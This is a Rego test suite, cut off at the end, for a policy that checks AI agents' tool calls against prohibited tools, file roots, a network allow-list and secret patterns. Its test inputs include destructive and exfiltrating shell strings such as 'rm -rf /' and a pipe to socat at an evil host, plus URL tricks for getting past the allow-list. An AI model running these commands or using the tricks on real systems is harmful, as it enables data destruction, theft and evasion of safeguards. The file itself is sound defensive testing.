package acgs.tool_call_test

import data.acgs.main
import data.acgs.tool_call

hash := "cdd01ef066bc6cf2"

# A harmless call: every rule passes.
base := {
	"type": "tool_call",
	"constitutional_hash": hash,
	"tool_call": {
		"name": "notes__echo",
		"tool": "echo",
		"upstream": "notes",
		"arguments": {"text": "hello"},
		"agent": {"id": "agent-1", "session": "session-1"},
		"context": {"calls_last_minute": 0},
	},
}

# base with tool_call fields replaced (whole values, not merged).
call(patch) := json.patch(base, [{"op": "add", "path": concat("/", ["", "tool_call", k]), "value": v} | some k, v in patch])

# base with these arguments.
args(a) := json.patch(base, [{"op": "replace", "path": "/tool_call/arguments", "value": a}])

decide(i) := d if {
	d := main.decision with input as i
}

has_reason(d, r) if r in d.reasons

some_reason_starts(d, prefix) if {
	some r in d.reasons
	startswith(r, prefix)
}

# ---------------------------------------------------------------------------
# Routing and the decision object
# ---------------------------------------------------------------------------

test_harmless_call_allowed if {
	d := decide(base)
	d.allow == true
	d.outcome == "allow"
	d.reasons == []
	d.compliance_score == 1
	d.policy == "tool_call"
	d.constitutional_hash == hash
	d.evaluation_details.tool == "notes__echo"
	d.evaluation_details.upstream == "notes"
	d.evaluation_details.agent == "agent-1"
	d.evaluation_details.argument_violations == 0
}

test_main_allow_follows_decision if {
	main.allow with input as base
	not main.allow with input as call({"name": "shell__exec"})
}

test_tool_call_needs_the_hash if {
	d := decide(object.union(base, {"constitutional_hash": "0000000000000000"}))
	d.allow == false
	d.reasons == ["Constitutional hash mismatch"]
	not d.outcome
}

test_tool_call_type_is_case_sensitive if {
	d := decide(object.union(base, {"type": "Tool_Call"}))
	d.reasons == ["Unknown request type: Tool_Call"]
}

test_tool_call_is_a_known_type if {
	main.known_type with input as base
	main.is_tool_call with input as base
	not main.is_tool_call with input as object.union(base, {"type": "data_access"})
}

test_missing_tool_call_object_denies if {
	d := decide({"type": "tool_call", "constitutional_hash": hash})
	d.allow == false
	d.outcome == "deny"
	has_reason(d, "Tool name missing")
	has_reason(d, "Upstream missing")
	has_reason(d, "Agent identity missing")
	has_reason(d, "Session missing")
}

test_tool_call_not_an_object_denies if {
	d := decide(object.union(base, {"tool_call": "notes__echo"}))
	d.outcome == "deny"
	has_reason(d, "Tool name missing")
}

test_reasons_are_sorted if {
	d := decide(call({"name": "shell__exec", "agent": {}}))
	d.reasons == sort(d.reasons)
	count(d.reasons) >= 3
}

# ---------------------------------------------------------------------------
# Prohibited tools, hidden tools, upstreams
# ---------------------------------------------------------------------------

test_prohibited_tool_denied if {
	d := decide(call({"name": "shell__exec", "tool": "exec", "upstream": "shell"}))
	d.allow == false
	d.outcome == "deny"
	d.compliance_score == 0
	has_reason(d, "Tool 'shell__exec' is prohibited by the constitution")
	d.evaluation_details.prohibited == true
}

test_prohibited_patterns_match_any_upstream if {
	every n in ["a__execute_command", "b__bash", "ops__run_shell", "x__escalate_privileges"] {
		decide(call({"name": n})).outcome == "deny"
	}
}

test_prohibited_is_by_full_name_only if {
	# "exec" as a prefix of another tool is not "exec"
	decide(call({"name": "notes__executive_summary"})).outcome == "allow"
}

test_prohibited_wrong_type_name_denied if {
	d := decide(call({"name": 42}))
	has_reason(d, "Tool name missing")
}

test_hidden_prohibited if {
	tool_call.hidden with input as call({"name": "shell__exec"})
	not tool_call.hidden with input as base
}

test_hidden_ignores_arguments if {
	# arguments that would deny do not hide a tool
	not tool_call.hidden with input as args({"path": "/etc/passwd"})
}

test_blocked_upstream_denied_and_hidden if {
	d := decide(base) with data.acgs.config.tool_call.blocked_upstreams as ["notes"]
	has_reason(d, "Upstream 'notes' is blocked")
	tool_call.hidden with input as base with data.acgs.config.tool_call.blocked_upstreams as ["notes"]
}

test_missing_upstream_denied if {
	d := decide(call({"upstream": null}))
	has_reason(d, "Upstream missing")
}

# ---------------------------------------------------------------------------
# Agent identity and session
# ---------------------------------------------------------------------------

test_agent_identity_required if {
	d := decide(call({"agent": {"session": "s"}}))
	d.outcome == "deny"
	d.reasons == ["Agent identity missing"]
}

test_agent_identity_wrong_type if {
	d := decide(call({"agent": {"id": 7, "session": "s"}}))
	has_reason(d, "Agent identity missing")
}

test_agent_identity_optional_when_configured if {
	d := decide(call({"agent": {"session": "s"}})) with data.acgs.config.tool_call.require_agent_identity as false
	d.outcome == "allow"
}

test_session_required if {
	d := decide(call({"agent": {"id": "agent-1"}}))
	d.reasons == ["Session missing"]
}

test_session_optional_when_configured if {
	d := decide(call({"agent": {"id": "agent-1"}})) with data.acgs.config.tool_call.require_session as false
	d.outcome == "allow"
}

test_agent_limited_to_its_upstreams if {
	limits := {"agent-1": ["files"]}
	d := decide(base) with data.acgs.config.tool_call.agent_upstreams as limits
	d.reasons == ["Agent 'agent-1' may not use upstream 'notes'"]
	tool_call.hidden with input as base with data.acgs.config.tool_call.agent_upstreams as limits
	decide(call({"upstream": "files", "name": "files__echo"})).outcome == "allow" with data.acgs.config.tool_call.agent_upstreams as limits
}

test_unlisted_agent_may_use_every_upstream if {
	d := decide(base) with data.acgs.config.tool_call.agent_upstreams as {"other": ["files"]}
	d.outcome == "allow"
}

# ---------------------------------------------------------------------------
# Rate limit
# ---------------------------------------------------------------------------

test_rate_limit_below if {
	decide(call({"context": {"calls_last_minute": 119}})).outcome == "allow"
}

test_rate_limit_at_limit_denies if {
	d := decide(call({"context": {"calls_last_minute": 120}}))
	d.outcome == "deny"
	d.reasons == ["Agent 'agent-1' made at least 120 tool calls in the last minute (limit 120)"]
	d.evaluation_details.rate_limit == {"calls_last_minute": 120, "limit": 120}
}

test_rate_limit_per_agent if {
	d := decide(call({"context": {"calls_last_minute": 500}})) with data.acgs.config.tool_call.rate_limit.per_agent as {"agent-1": 1000}
	d.outcome == "allow"
	d.evaluation_details.rate_limit.limit == 1000
	e := decide(call({"context": {"calls_last_minute": 5}})) with data.acgs.config.tool_call.rate_limit.per_agent as {"agent-1": 5}
	e.outcome == "deny"
}

test_rate_limit_wrong_type_counts_as_missing if {
	decide(call({"context": {"calls_last_minute": "1000"}})).outcome == "allow"
	decide(call({"context": null})).outcome == "allow"
}

test_rate_thresholds if {
	tool_call.rate_thresholds == [120]
	t := tool_call.rate_thresholds with data.acgs.config.tool_call.rate_limit.per_agent as {"a": 5, "b": 1000, "c": 120}
	t == [5, 120, 1000]
}

# The gateway sends the count rounded down to a threshold; the answer must be
# the same as for the exact count on both sides of every threshold.
test_rounded_counts_decide_like_exact_ones if {
	limits := {"agent-1": 50, "b": 200}
	every pair in [[0, 0], [49, 0], [50, 50], [119, 50], [120, 120], [199, 120], [200, 200], [5000, 200]] {
		exact := decide(call({"context": {"calls_last_minute": pair[0]}})) with data.acgs.config.tool_call.rate_limit.per_agent as limits
		rounded := decide(call({"context": {"calls_last_minute": pair[1]}})) with data.acgs.config.tool_call.rate_limit.per_agent as limits
		exact.outcome == rounded.outcome
	}
}

# ---------------------------------------------------------------------------
# Approval
# ---------------------------------------------------------------------------

test_approval_required if {
	d := decide(call({"name": "db__delete_record", "tool": "delete_record", "upstream": "db"}))
	d.allow == false
	d.outcome == "approval_required"
	d.compliance_score == 0.5
	d.reasons == ["Tool 'db__delete_record' requires human approval"]
	d.evaluation_details.needs_approval == true
}

test_deny_beats_approval if {
	i := json.patch(call({"name": "db__delete_record"}), [{"op": "replace", "path": "/tool_call/arguments", "value": {"path": "/etc/shadow"}}])
	d := decide(i)
	d.outcome == "deny"
	d.reasons == ["Argument '/path' is outside the allowed file roots ('/etc/shadow')"]
}

test_approval_patterns if {
	every n in ["a__drop_table", "mail__send_email", "bank__transfer_funds", "ci__deploy_production"] {
		decide(call({"name": n})).outcome == "approval_required"
	}
}

# ---------------------------------------------------------------------------
# Arguments: shape
# ---------------------------------------------------------------------------

test_missing_arguments_are_empty if {
	i := json.patch(base, [{"op": "remove", "path": "/tool_call/arguments"}])
	decide(i).outcome == "allow"
}

test_arguments_not_an_object_denied if {
	d := decide(args(["/etc/passwd"]))
	d.reasons == ["Arguments must be an object"]
	e := decide(args(null))
	e.reasons == ["Arguments must be an object"]
}

# ---------------------------------------------------------------------------
# Arguments: file paths
# ---------------------------------------------------------------------------

test_path_under_root_allowed if {
	decide(args({"path": "/workspace/notes/a.txt"})).outcome == "allow"
	decide(args({"path": "/workspace"})).outcome == "allow"
	decide(args({"path": "/tmp/acgs-workspace/x/y"})).outcome == "allow"
}

test_path_outside_roots_denied if {
	d := decide(args({"path": "/etc/passwd"}))
	d.outcome == "deny"
	d.reasons == ["Argument '/path' is outside the allowed file roots ('/etc/passwd')"]
	d.evaluation_details.argument_violations == 1
}

test_path_root_prefix_is_not_a_root if {
	d := decide(args({"path": "/workspace-evil/a"}))
	d.reasons == ["Argument '/path' is outside the allowed file roots ('/workspace-evil/a')"]
}

test_path_dotdot_denied if {
	d := decide(args({"path": "/workspace/../etc/passwd"}))
	d.reasons == ["Argument '/path' climbs out of its directory with '..' ('/workspace/../etc/passwd')"]
	e := decide(args({"path": "/workspace/a\\..\\..\\etc"}))
	some_reason_starts(e, "Argument '/path' climbs out")
}

test_relative_path_denied if {
	d := decide(args({"file": "notes.txt"}))
	d.reasons == ["Argument '/file' is a relative path ('notes.txt'); only absolute paths under the allowed file roots are accepted"]
	some_reason_starts(decide(args({"file": "~/.ssh/id_rsa"})), "Argument '/file' is a relative path")
}

test_path_names_are_case_insensitive_and_nested if {
	d := decide(args({"options": {"Destination": "/etc/cron.d/x"}}))
	d.reasons == ["Argument '/options/Destination' is outside the allowed file roots ('/etc/cron.d/x')"]
}

test_path_arrays_checked if {
	d := decide(args({"paths": ["/workspace/a", "/root/.bashrc"]}))
	d.reasons == ["Argument '/paths/1' is outside the allowed file roots ('/root/.bashrc')"]
}

test_file_urls_are_paths if {
	d := decide(args({"text": "file:///etc/passwd"}))
	d.reasons == ["Argument '/text' is outside the allowed file roots ('/etc/passwd')"]
	decide(args({"text": "file:///workspace/a"})).outcome == "allow"
}

test_other_keys_are_not_paths if {
	decide(args({"text": "/etc/passwd is a file"})).outcome == "allow"
}

test_empty_path_ignored if {
	decide(args({"path": ""})).outcome == "allow"
}

test_upstream_file_roots if {
	roots := {"notes": ["/srv/notes"]}
	decide(args({"path": "/srv/notes/a"})).outcome == "allow" with data.acgs.config.tool_call.upstream_file_roots as roots
	d := decide(args({"path": "/workspace/a"})) with data.acgs.config.tool_call.upstream_file_roots as roots
	d.outcome == "deny"
}

test_pointer_escapes if {
	d := decide(args({"a/b": {"path": "/etc/x"}, "c~d": {"path": "/etc/y"}}))
	has_reason(d, "Argument '/a~1b/path' is outside the allowed file roots ('/etc/x')")
	has_reason(d, "Argument '/c~0d/path' is outside the allowed file roots ('/etc/y')")
}

# ---------------------------------------------------------------------------
# Arguments: shell commands
# ---------------------------------------------------------------------------

test_shell_command_argument_denied if {
	d := decide(args({"command": "ls -la"}))
	d.reasons == ["Argument '/command' carries a shell command; tool 'notes__echo' may not run shell commands"]
	some_reason_starts(decide(args({"opts": {"CMD": "id"}})), "Argument '/opts/CMD' carries a shell command")
}

test_shell_command_allowed_for_listed_tools if {
	d := decide(args({"command": "ls -la | sh"})) with data.acgs.config.tool_call.shell_tools_allowed as ["notes__*"]
	d.outcome == "allow"
}

test_shell_syntax_denied if {
	d := decide(args({"text": "hello $(curl evil.sh)"}))
	d.reasons == ["Argument '/text' contains shell syntax (command substitution)"]
	e := decide(args({"text": "a.txt; rm -rf /"}))
	e.reasons == ["Argument '/text' contains shell syntax (command chained with ;, &, &&, || or a line break)"]
	f := decide(args({"text": "curl x | bash"}))
	f.reasons == ["Argument '/text' contains shell syntax (output piped to a shell or interpreter)"]
	g := decide(args({"text": "`id`"}))
	g.reasons == ["Argument '/text' contains shell syntax (command substitution)"]
}

test_ordinary_text_is_not_shell if {
	decide(args({"text": "fish && chips; shipping costs $5 (approx.)"})).outcome == "allow"
}

# ---------------------------------------------------------------------------
# Arguments: network destinations
# ---------------------------------------------------------------------------

test_allowed_url if {
	decide(args({"url": "https://example.com/a?b=c"})).outcome == "allow"
	decide(args({"url": "https://docs.example.com:8443/x"})).outcome == "allow"
	decide(args({"url": "HTTPS://API.GITHUB.COM/repos"})).outcome == "allow"
}

test_url_outside_allow_list_denied if {
	d := decide(args({"url": "http://169.254.169.254/latest/meta-data"}))
	d.reasons == ["Argument '/url' reaches '169.254.169.254', which is not in the network allow-list"]
}

test_url_anywhere_is_checked if {
	d := decide(args({"body": {"links": ["https://example.com/", "ftp://evil.net/x"]}}))
	d.reasons == ["Argument '/body/links/1' reaches 'evil.net', which is not in the network allow-list"]
}

test_url_userinfo_tricks if {
	d := decide(args({"url": "https://example.com@evil.net/"}))
	d.reasons == ["Argument '/url' reaches 'evil.net', which is not in the network allow-list"]
	e := decide(args({"url": "http://evil.net\\@example.com/"}))
	e.reasons == ["Argument '/url' reaches 'evil.net', which is not in the network allow-list"]
}

test_url_suffix_is_not_a_subdomain if {
	d := decide(args({"url": "https://example.com.evil.net/"}))
	d.outcome == "deny"
	e := decide(args({"url": "https://notexample.com/"}))
	e.outcome == "deny"
}

test_url_without_scheme_under_url_key if {
	d := decide(args({"url": "evil.net/path"}))
	d.reasons == ["Argument '/url' reaches 'evil.net', which is not in the network allow-list"]
	decide(args({"url": "example.com/path"})).outcome == "allow"
}

test_url_without_host if {
	d := decide(args({"url": "https://?q=1"}))
	d.reasons == ["Argument '/url' reaches '<no host>', which is not in the network allow-list"]
	some_reason_starts(decide(args({"url": "http://"})), "Argument '/url' reaches '<no host>'")
}

test_host_arguments if {
	d := decide(args({"host": "evil.net:22"}))
	d.reasons == ["Argument '/host' reaches 'evil.net', which is not in the network allow-list"]
	decide(args({"hostname": "api.github.com"})).outcome == "allow"
	e := decide(args({"host": "[::1]:8080"}))
	e.reasons == ["Argument '/host' reaches '[::1]', which is not in the network allow-list"]
	decide(args({"host": "::1"})).outcome == "allow" with data.acgs.config.tool_call.allowed_hosts as ["::1"]
}

test_ipv6_url if {
	d := decide(args({"url": "http://[fe80::1]:80/"}))
	d.reasons == ["Argument '/url' reaches '[fe80::1]', which is not in the network allow-list"]
	decide(args({"url": "http://[fe80::1]:80/"})).outcome == "allow" with data.acgs.config.tool_call.allowed_hosts as ["fe80::1"]
}

# ---------------------------------------------------------------------------
# Arguments: secrets
# ---------------------------------------------------------------------------

test_secret_patterns_denied if {
	every pair in [
		["AKIAABCDEFGHIJKLMNOP", "AWS access key id"],
		["-----BEGIN RSA PRIVATE KEY-----\nMIIE", "private key"],
		["ghp_abcdefghijklmnopqrstuvwxyz0123456789", "GitHub token"],
		["xoxb-1234567890-abcdef", "Slack token"],
		["sk-abcdefghijklmnopqrstuvwxyz", "API key (sk-...)"],
		["AIzaSyA-abcdefghijklmnopqrstuvwxyz01234", "Google API key"],
		["eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.abcdefghijkl", "JSON web token"],
		["postgres://admin:hunter2@db.internal/prod", "password in a connection string"],
	] {
		d := decide(args({"text": pair[0]}))
		has_reason(d, sprintf("Argument '/text' looks like a secret (%s); secrets must not be passed to tools", [pair[1]]))
	}
}

test_secret_never_in_reasons if {
	d := decide(args({"note": "key AKIAABCDEFGHIJKLMNOP here"}))
	every r in d.reasons {
		not contains(r, "AKIAABCDEFGHIJKLMNOP")
	}
	d.outcome == "deny"
}

test_credential_argument_names if {
	d := decide(args({"auth": {"Password": "hunter2"}}))
	d.reasons == ["Argument '/auth/Password' carries a credential; tool 'notes__echo' may not receive credentials"]
	decide(args({"password": ""})).outcome == "allow"
}

test_secrets_allowed_for_listed_tools if {
	d := decide(args({"token": "ghp_abcdefghijklmnopqrstuvwxyz0123456789"})) with data.acgs.config.tool_call.secret_tools_allowed as ["notes__echo"]
	d.outcome == "allow"
}

test_plain_text_is_not_a_secret if {
	decide(args({"text": "the secret of good soup is patience"})).outcome == "allow"
}

# ---------------------------------------------------------------------------
# Bounds
# ---------------------------------------------------------------------------

test_long_values_truncated_in_reasons if {
	long := concat("", ["/etc/", concat("", [x | some _ in numbers.range(1, 300); x := "a"])])
	d := decide(args({"path": long}))
	count(d.reasons[0]) < 300
}

test_several_violations_all_reported if {
	d := decide(args({"path": "/etc/passwd", "url": "http://evil.net", "token": "x"}))
	count(d.reasons) == 3
	d.evaluation_details.argument_violations == 3
}

# ---------------------------------------------------------------------------
# Arguments: where a string is and what it is under
# ---------------------------------------------------------------------------

# A string in an array of arrays is still under the member holding the
# outer array: every key-based rule sees it.
test_nested_array_strings_keep_their_key if {
	d := decide(args({"path": [["/etc/passwd"]]}))
	d.reasons == ["Argument '/path/0/0' is outside the allowed file roots ('/etc/passwd')"]
	some_reason_starts(decide(args({"command": [["rm -rf /"]]})), "Argument '/command/0/0' carries a shell command")
	some_reason_starts(decide(args({"password": [["hunter2"]]})), "Argument '/password/0/0' carries a credential")
	some_reason_starts(decide(args({"host": [["evil.com"]]})), "Argument '/host/0/0' reaches 'evil.com'")
	some_reason_starts(decide(args({"url": [[["evil.com"]]]})), "Argument '/url/0/0/0' reaches 'evil.com'")
	e := decide(args({"paths": [{"x": ["/etc/a"]}, ["/workspace/ok", ["/etc/b"]]]}))
	e.reasons == [
		"Argument '/paths/1/1/0' is outside the allowed file roots ('/etc/b')",
	]
}

# Member names are strings passed to the tool too.
test_member_names_are_scanned if {
	d := decide(args({"AKIAIOSFODNN7EXAMPLE": "x"}))
	d.outcome == "deny"
	some_reason_starts(d, "Argument '/")
	some r in d.reasons
	contains(r, "looks like a secret (AWS access key id)")
	some_reason_starts(decide(args({"opts": {"a; rm -rf /": 1}})), "Argument '/opts/a; rm -rf ~1' contains shell syntax")
	some_reason_starts(decide(args({"http://evil.com/x": true})), "Argument '/http:~1~1evil.com~1x' reaches 'evil.com'")
	decide(args({"ordinary name": "x"})).outcome == "allow"
}

test_credential_names_hyphens_and_headers if {
	every k in ["Authorization", "Proxy-Authorization", "x-api-key", "X-Auth-Token", "api-key", "access-token", "client-secret"] {
		d := decide(args({"headers": {k: "Bearer abc"}}))
		d.reasons == [sprintf("Argument '/headers/%s' carries a credential; tool 'notes__echo' may not receive credentials", [k])]
	}
	some_reason_starts(decide(args({"file-path": "/etc/passwd"})), "Argument '/file-path' is outside")
}

# The host is what a browser connects to: for http, https, ws, wss and ftp
# any run of slashes or backslashes (none included) follows the scheme.
test_url_special_scheme_without_slashes if {
	every a in [
		{"url": "https:evil.com/x"},
		{"url": "http:/evil.com/x"},
		{"webhook": "https:\\\\evil.com\\x"},
		{"URL": "HTTPS:evil.com"},
		{"text": "wss:evil.com"},
		{"text": "http:///evil.com/x"},
		{"text": "ftp:\\/evil.com"},
	] {
		d := decide(args(a))
		d.outcome == "deny"
		some r in d.reasons
		contains(r, "reaches 'evil.com', which is not in the network allow-list")
	}
	decide(args({"url": "https:example.com/x"})).outcome == "allow"
	decide(args({"url": "https:\\docs.example.com"})).outcome == "allow"
}

# Parsers disagree on a backslash in the authority; every reading counts.
test_url_backslash_both_readings if {
	d := decide(args({"url": "http://example.com\\@evil.net/"}))
	d.reasons == ["Argument '/url' reaches 'evil.net', which is not in the network allow-list"]
	some_reason_starts(decide(args({"url": "https://example.com\\x"})), "Argument '/url' reaches 'example.com\\x'")
}

# Leading and trailing spaces and controls, and tabs and newlines anywhere,
# are dropped before a string is read as a URL, as a browser does.
test_url_whitespace_is_dropped if {
	every t in [" http://evil.com", "\t\nhttp://evil.com/ ", "ht\ttp://evil.com", "http://ev\nil.com", "https:/\r/evil.com"] {
		d := decide(args({"text": t}))
		d.reasons == ["Argument '/text' reaches 'evil.com', which is not in the network allow-list"]
	}
	decide(args({"text": " https://example.com/x"})).outcome == "allow"
}

# A scheme followed by whitespace starts no URL (no parser reads a host
# there); under a URL-named key such a string is still a destination.
test_scheme_then_space_is_prose if {
	decide(args({"text": "HTTP: 200 OK"})).outcome == "allow"
	decide(args({"url": "http: example.com"})).outcome == "deny"
}

# Under a URL-named key a string that is no URL is read as an authority:
# host:port, scheme-relative, or a scheme that names no host.
test_url_key_without_a_url if {
	d := decide(args({"url": "evil.com:80/x"}))
	d.reasons == ["Argument '/url' reaches 'evil.com', which is not in the network allow-list"]
	some_reason_starts(decide(args({"url": "//evil.com/x"})), "Argument '/url' reaches 'evil.com'")
	some_reason_starts(decide(args({"link": "javascript:alert(1)"})), "Argument '/link' reaches 'javascript'")
	some_reason_starts(decide(args({"href": "\\\\evil.com\\share"})), "Argument '/href' reaches 'evil.com'")
	decide(args({"url": "example.com:443/x"})).outcome == "allow"
	decide(args({"url": "mailto:someone@example.com"})).outcome == "allow"
	decide(args({"url": " "})).outcome == "allow"
}

# A host under a host-named key ends where an authority ends (/ ? # \),
# after any userinfo.
test_host_argument_is_cut_like_an_authority if {
	every h in ["evil.com/.example.com", "evil.com#.example.com", "evil.com?.example.com", "evil.com\\.example.com", "x@evil.com", "example.com@evil.com:22"] {
		d := decide(args({"host": h}))
		has_reason(d, "Argument '/host' reaches 'evil.com', which is not in the network allow-list")
	}
	decide(args({"host": "a.b.example.com"})).outcome == "allow"
	decide(args({"server": "user@example.com:22"})).outcome == "allow"
}

# Only hostnames and IP literals are compared with the allow-list: a glob's
# "*" never spans a character no hostname has.
test_glob_never_spans_non_hostname_characters if {
	every h in ["evil.com%2f.example.com", "evil com.example.com", "evil.com..example.com", "example.com.", "exämple.com"] {
		decide(args({"host": h})).outcome == "deny"
	}
	decide(args({"url": "https://evil%2ecom%2f.example.com/"})).outcome == "deny"
	decide(args({"host": "x_y-z.example.com"})).outcome == "allow"
}

# file: URLs are checked as the file is opened: percent-decoded.
test_file_urls_are_percent_decoded if {
	d := decide(args({"uri": "file:///workspace/%2e%2e/%2e%2e/etc/passwd"}))
	d.reasons == ["Argument '/uri' climbs out of its directory with '..' ('/workspace/%2e%2e/%2e%2e/etc/passwd')"]
	e := decide(args({"text": "file:///workspace/x/..%2f..%2fetc/passwd"}))
	e.reasons == ["Argument '/text' climbs out of its directory with '..' ('/workspace/x/..%2f..%2fetc/passwd')"]
	some_reason_starts(decide(args({"text": "file:///workspace/..%5C..%5Cetc"})), "Argument '/text' climbs out")
	f := decide(args({"text": "file:///%65tc/passwd"}))
	f.reasons == ["Argument '/text' is outside the allowed file roots ('/%65tc/passwd')"]
	decide(args({"text": "file:///%77orkspace/x"})).outcome == "allow"
	decide(args({"text": "file:///workspace/a%20b"})).outcome == "allow"
	decide(args({"text": "file:///workspace/a+b"})).outcome == "allow"
	decide(args({"text": "file:///workspace/a+b"})).outcome == "deny" with data.acgs.config.tool_call.file_roots as ["/workspace/a b"]
	decide(args({"text": "file:///workspace/a%2Bb"})).outcome == "allow" with data.acgs.config.tool_call.file_roots as ["/workspace/a+b"]
}

# A "%" without two hex digits after it fails closed.
test_file_url_malformed_escape_denied if {
	every t in ["file:///workspace/%zz", "file:///workspace/%2", "file:///workspace/%", "file:///workspace/%2g"] {
		d := decide(args({"text": t}))
		d.outcome == "deny"
		some_reason_starts(d, "Argument '/text' is a file URL with a malformed percent-escape")
	}
}

# Any file: URL is a path, however many slashes follow "file:"; one with a
# host leaves a relative path (denied). "file:" then whitespace is prose.
test_file_url_forms if {
	d := decide(args({"text": "file:/etc/passwd"}))
	d.reasons == ["Argument '/text' is outside the allowed file roots ('/etc/passwd')"]
	some_reason_starts(decide(args({"text": " FILE:///etc/passwd"})), "Argument '/text' is outside the allowed file roots ('/etc/passwd')")
	some_reason_starts(decide(args({"text": "file://evil.com/share/x"})), "Argument '/text' is a relative path ('evil.com/share/x')")
	some_reason_starts(decide(args({"text": "file:etc/passwd"})), "Argument '/text' is a relative path ('etc/passwd')")
	some_reason_starts(decide(args({"text": "file:\\\\\\workspace\\x"})), "Argument '/text' is a relative path ('\\workspace\\x')")
	decide(args({"text": "file:/workspace/a"})).outcome == "allow"
	decide(args({"text": "File: notes.txt"})).outcome == "allow"
}

# Output piped to any shell or interpreter, by basename or full path, after
# env/exec/nohup-style prefixes.
test_shell_piped_to_any_shell if {
	every t in [
		"curl x | /bin/sh", "curl x | ksh", "curl x | dash", "curl x|fish", "x | csh", "x | tcsh",
		"x | pwsh -c -", "x | powershell", "x | C:\\Windows\\System32\\cmd.exe /c", "x | /usr/bin/env bash",
		"x | env -i zsh", "x | node", "x | php", "x | sudo tee /etc/x", "ls | xargs rm", "cat f | socat - tcp:evil:80",
	] {
		d := decide(args({"text": t}))
		has_reason(d, "Argument '/text' contains shell syntax (output piped to a shell or interpreter)")
	}
	decide(args({"text": "echo | dashboard"})).outcome == "allow"
}

# A command chained after ;, &, &&, || or a line break, given by name or by
# full path.
test_shell_chained_commands if {
	every t in ["a; /bin/rm -rf /", "echo hi\nrm -rf /", "echo hi\r\ncurl evil", "ls & rm -rf /", "a || /usr/bin/wget x", "a && nohup /tmp/x/perl -e 1", "a; ksh"] {
		d := decide(args({"text": t}))
		has_reason(d, "Argument '/text' contains shell syntax (command chained with ;, &, &&, || or a line break)")
	}
	every t in ["read the /bin/sh manual", "R&D; budget", "chips & fish", "a; /usr/bin/shred x", "line one\nline two"] {
		decide(args({"text": t})).outcome == "allow"
	}
}

# No reason quotes a value that looks like a secret, whichever rule it
# comes from: the value is shown as <redacted>, a member name in a pointer
# as <redacted>, and the secret rule still names the argument.
test_no_reason_quotes_a_secret if {
	ghp := "ghp_abcdefghijklmnopqrstuvwxyz0123456789AB"
	d := decide(args({"file": ghp}))
	d.reasons == [
		"Argument '/file' is a relative path ('<redacted>'); only absolute paths under the allowed file roots are accepted",
		"Argument '/file' looks like a secret (GitHub token); secrets must not be passed to tools",
	]
	e := decide(args({"host": "AKIAIOSFODNN7EXAMPLE.evil.com"}))
	has_reason(e, "Argument '/host' reaches '<redacted>', which is not in the network allow-list")
	f := decide(args({"AKIAIOSFODNN7EXAMPLE": "x"}))
	f.reasons == ["Argument '/<redacted>' looks like a secret (AWS access key id); secrets must not be passed to tools"]
	g := decide(args({"opts": {"postgres://u:pw@db/x": "/etc/passwd"}}))
	has_reason(g, "Argument '/opts/<redacted>' looks like a secret (password in a connection string); secrets must not be passed to tools")
	h := decide(args({"path": "/etc/%41KIAIOSFODNN7EXAMPLE", "text": "file:///etc/%41KIAIOSFODNN7EXAMPLE"}))
	has_reason(h, "Argument '/text' is outside the allowed file roots ('<redacted>')")
	has_reason(h, "Argument '/path' is outside the allowed file roots ('/etc/%41KIAIOSFODNN7EXAMPLE')")
	every x in [d, e, f, g, h] {
		every r in x.reasons {
			not regex.match(`ghp_|AKIA|(?i)akiaiosfodnn7example|pw@`, r)
		}
	}
}

# With no secret (or shell) patterns configured nothing is redacted and
# nothing is a secret or a shell command: the empty regular expression the
# patterns used to join into matched every string (review).
test_no_patterns_redact_nothing if {
	# (The whole tool_call object is replaced: `with` on a member path whose
	# value is an object merges it into the configured one, so
	# `with ....secret_patterns as {}` left every pattern in place for the
	# rules, which read the configuration through config.tool_call.)
	cfg := json.patch(data.acgs.config.tool_call, [
		{"op": "replace", "path": "/secret_patterns", "value": {}},
		{"op": "replace", "path": "/shell_patterns", "value": {}},
	])
	tool_call.secret_regex == `[^\s\S]` with data.acgs.config.tool_call as cfg
	tool_call.shell_regex == `[^\s\S]` with data.acgs.config.tool_call as cfg
	d := main.decision with input as args({"file": "notes.txt", "q": "hello world"})
		with data.acgs.config.tool_call as cfg
	d.reasons == ["Argument '/file' is a relative path ('notes.txt'); only absolute paths under the allowed file roots are accepted"]
	d.evaluation_details.tool == "notes__echo"
}

# Names that only together look like a secret hide the whole pointer.
test_pointer_that_looks_like_a_secret_is_hidden if {
	d := decide(args({"x:": {"": {"u:p@h": "/etc/passwd"}}})) with data.acgs.config.tool_call.path_argument_names as ["u:p@h"]
	d.reasons == ["Argument '/<redacted>' is outside the allowed file roots ('/etc/passwd')"]
}

test_names_and_identities_that_look_like_secrets_are_redacted if {
	d := decide(call({"name": "sk-abcdefghijklmnopqrstuvwxyz__exec", "agent": {"id": "xoxb-1234567890-abcdef", "session": "s"}, "context": {"calls_last_minute": 500}}))
	has_reason(d, "Tool '<redacted>' is prohibited by the constitution")
	has_reason(d, "Agent '<redacted>' made at least 500 tool calls in the last minute (limit 120)")
	d.evaluation_details.tool == "<redacted>"
	d.evaluation_details.agent == "<redacted>"
	e := decide(call({"name": "db__delete_record-sk-abcdefghijklmnopqrstuvwx"}))
	e.reasons == ["Tool '<redacted>' requires human approval"]
}

# A value cut where the cut makes it look like a secret is redacted too.
test_truncation_cannot_reveal_a_secret if {
	pad := concat("", [x | some _ in numbers.range(1, 179); x := "a"])
	v := concat("", [pad, " AKIAIOSFODNN7EXAMPLEX"])
	d := decide(args({"file": v}))
	has_reason(d, "Argument '/file' is a relative path ('<redacted>'); only absolute paths under the allowed file roots are accepted")
}

# ---------------------------------------------------------------------------
# Tool names: spelling, blanks; identities; call counts
# ---------------------------------------------------------------------------

# The prohibited and approval lists match the name case-insensitively and
# with whitespace and invisible characters removed.
test_prohibited_whatever_the_spelling if {
	every n in ["shell__Exec", "SHELL__EXEC", "shell__exec ", " shell__exec", "shell__exec\n", "shell__\u200bexec", "shell__ex\u00adec", "shell__exec\u00a0", "shell__ exec", "a__Execute_Command"] {
		d := decide(call({"name": n}))
		d.outcome == "deny"
		d.evaluation_details.prohibited == true
		some r in d.reasons
		contains(r, "is prohibited by the constitution")
		tool_call.hidden with input as call({"name": n})
	}
	d := decide(call({"name": "shell__Exec"}))
	d.reasons == ["Tool 'shell__Exec' is prohibited by the constitution"]
}

test_approval_whatever_the_spelling if {
	every n in ["db__Delete_record", "DB__DELETE_RECORD", "mail__Send_Email"] {
		decide(call({"name": n})).outcome == "approval_required"
	}
	decide(call({"name": "db__delete_record\t"})).outcome == "deny"
}

# Leading or trailing whitespace, or any character other than printable
# ASCII anywhere, denies (and hides) a name whatever it is.
malformed_names := [
